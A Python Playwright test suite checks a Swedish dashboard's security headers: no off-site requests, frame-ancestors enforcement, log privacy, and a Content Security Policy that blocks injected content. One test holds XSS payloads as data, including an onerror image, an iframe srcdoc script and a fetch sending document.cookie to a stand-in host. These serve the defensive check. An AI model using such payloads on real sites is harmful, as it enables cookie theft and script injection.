"""Nothing that a reader can do breaks what the headers forbid, and nothing of it leaves the machine."""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import urlsplit
from urllib.request import urlopen

import pytest
from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect
from playwright.sync_api import Request as PageRequest

from dashboard.decks import Deck, DeckSlide, pack
from dashboard.links import PATHS
from dashboard.store.build import build_store
from tests.browser.barriers import barriers
from tests.browser.conftest import Visit
from tests.browser.serving import ROOT, serving, wait_until_drawn
from tests.browser.test_explore import FIGURE, LIVE
from tests.ports import free_port
from tests.trust import Kind, Ledger

WATCHED = ("tests.watched", "run", "app.py")
DECK = Deck("Två", (DeckSlide("./", "vision-areas-by-stage", note="Lugnt."), DeckSlide("skeden", "stages")))


@dataclass
class Served:
    address: str
    metrics: str
    friend: str
    """A site that may show our pages; under its number, it may not."""
    folder: Path

    @property
    def lines(self) -> list[dict]:
        """What the log says, once it listens; each line is an object."""
        return [json.loads(line) for line in (self.folder / "said").read_text("utf-8").splitlines()]


class Framing(BaseHTTPRequestHandler):
    """Another site, which shows a chart of ours in a frame; it is served beside us.

    From a page that came from elsewhere, Chromium would not let anything reach into this machine at all.
    """

    framed = ""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(f'<iframe src="{self.framed}" width="900" height="600"></iframe>'.encode())

    def log_message(self, format: str, *args: object) -> None:
        """Nobody needs to know."""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("watched")
    build_store(ROOT / "data", folder / "store")
    port = free_port()
    with ThreadingHTTPServer(("127.0.0.1", 0), Framing) as framing, pytest.MonkeyPatch.context() as environ:
        friend = f"http://localhost:{framing.server_port}"
        environ.setenv("WATCHED", str(folder))
        environ.setenv("DASHBOARD_LOG", "json")
        environ.setenv("DASHBOARD_METRICS_PORT", str(port))
        environ.setenv("DASHBOARD_FRAME_ANCESTORS", friend)
        with serving(folder / "store", ROOT / "data", WATCHED) as started:
            Framing.framed = f"{started.address}/omraden?embed=true&panel=district-list"
            Thread(target=framing.serve_forever).start()
            yield Served(started.address, f"http://127.0.0.1:{port}/metrics", friend, folder)
            framing.shutdown()


@pytest.fixture(scope="module")
def address(server: Served) -> str:
    return server.address


@pytest.fixture
def complaints(context: BrowserContext) -> Iterator[list[str]]:
    """What the browser says that it has kept a page from, in any window; there is nothing."""
    said: list[str] = []

    def note(message: ConsoleMessage) -> None:
        probes = "/_stcore/" in message.location["url"]  # where Streamlit looks for what it is served below
        if message.type in ("error", "warning") and not probes:
            said.append(message.text)

    context.on("console", note)
    yield said
    context.remove_listener("console", note)


def test_no_page_asks_for_what_the_headers_forbid_or_for_another_machine(
    context: BrowserContext, visit: Visit, address: str, complaints: list[str], ledger: Ledger
):
    asked: list[str] = []

    def note(request: PageRequest) -> None:
        asked.append(request.url)

    context.on("request", note)
    for path in PATHS.values():
        page = visit(f"{path}?q=barn")
        if page.locator(FIGURE).count():
            page.locator(FIGURE).first.dispatch_event("pointerover", {"pointerType": "mouse"})
            expect(page.locator(LIVE)).to_be_visible()
        page.wait_for_load_state("networkidle")
        assert complaints == [], path
    page = visit("omraden")
    page.locator("#vk-share").click()
    page.get_by_role("button", name="Kopiera länken").first.click()
    part = page.locator("[data-take=page]")
    part.locator("summary").click()
    with page.expect_download():
        part.get_by_role("link", name="JSON").click()
    page.goto(f"{address}/insatser")
    wait_until_drawn(page)
    page.locator("#list-words").fill("hemlighet")
    page.locator("#list-words").press("Enter")
    expect(page).to_have_url(re.compile("q=hemlighet"))
    wait_until_drawn(page)
    page.goto(f"{address}/bildspel?deck={pack(DECK)}&slide=1")
    expect(page.locator(".vk-slide")).to_have_count(len(DECK.slides))
    with page.expect_popup() as opened:
        page.keyboard.press("s")
    expect(opened.value.locator(".vk-slide")).to_have_count(len(DECK.slides))
    page.keyboard.press("f")
    page.wait_for_function("document.fullscreenElement !== null")
    page.keyboard.press("ArrowRight")
    expect(opened.value).to_have_url(re.compile("slide=2"))
    opened.value.close()
    context.remove_listener("request", note)
    assert complaints == []
    assert len(asked) > 100
    assert [url for url in asked if not url.startswith((address, "data:", "blob:"))] == []
    ledger.note(Kind.REQUESTS, "over every page, its charts, menus, search and slides", len(asked))


def test_only_the_sites_that_are_named_show_a_page_in_a_frame(page: Page, server, complaints, ledger):
    page.goto(server.friend)
    expect(page.frame_locator("iframe").locator("h2").first).to_be_visible()
    assert complaints == []

    with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
        page.goto(server.friend.replace("localhost", "127.0.0.1"))
    expect(page.frame_locator("iframe").locator(".vk")).to_have_count(0)
    ledger.note(Kind.HOSTILE, "a page of ours in a stranger's frame")


def test_a_script_that_got_into_a_page_does_not_run(visit: Visit, complaints, ledger):
    page = visit("om-data")
    last = "document.body.insertAdjacentHTML('beforeend', "
    attacks = (
        "const it = document.createElement('script'); it.text = '__hit = 1'; document.body.append(it)",
        "const far = document.createElement('script'); far.src = '//x.example/'; document.body.append(far)",
        f"""{last} '<img src=data:x onerror="window.__hit = 1">')""",
        f"""{last} '<iframe srcdoc="<script>parent.__hit = 1</script>">')""",
        "fetch('//stranger.example/?' + document.cookie).catch(() => {})",
        "new Image().src = '//stranger.example/pixel.gif'",
    )
    for attack in attacks:
        with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
            page.evaluate(f"() => {{ {attack} }}")
    assert page.evaluate("window.__hit") is None
    ledger.note(Kind.HOSTILE, "script, picture or request put into a page", len(attacks))


@pytest.mark.parametrize("colours", ["light", "dark"])
def test_a_path_that_leads_nowhere_says_so_and_leads_on(page: Page, address, colours):
    page.emulate_media(color_scheme=colours)
    answer = page.goto(f"{address}/omraden/finns/inte?district=norrby")
    assert answer is not None
    assert answer.status == 404
    expect(page.get_by_role("heading", level=1)).to_have_text("Sidan finns inte")
    assert barriers(page) == []
    page.get_by_role("link", name="Områden", exact=True).click()
    wait_until_drawn(page)
    expect(page).to_have_url(f"{address}/omraden")


def test_the_log_and_the_figures_tell_of_requests_and_not_of_readers(server: Served):
    sent = {"User-Agent": "hemlighet", "Cookie": "a=hemlighet"}
    connection = HTTPConnection(urlsplit(server.address).netloc)
    for path in (
        "/omraden?q=hemlighet",
        "/hemlighet",
        "/health/live",
    ):  # each after the last is told of
        connection.request("GET", path, headers=sent)
        connection.getresponse().read()
    connection.close()
    routes = {(line.get("route"), line.get("page"), line.get("status")) for line in server.lines}
    assert {("page", "districts", 200), ("nowhere", "", 404)} <= routes
    told = [line for line in server.lines if "running on" not in line.get("message", "")]
    assert not re.search(r"hemlighet|127\.0\.0\.1|Mozilla|district-list", json.dumps(told))

    figures = urlopen(server.metrics).read().decode()
    assert 'visionskollen_requests_total{method="GET",route="page",status="200"}' in figures
    assert "visionskollen_ready 1.0" in figures
    assert "hemlighet" not in figures


def test_the_server_connects_to_nobody(server: Served, ledger: Ledger):
    urlopen(server.address).close()
    assert (server.folder / "connected").read_text() == ""
    ledger.note(Kind.REQUESTS, "to other machines by the server itself", 0)
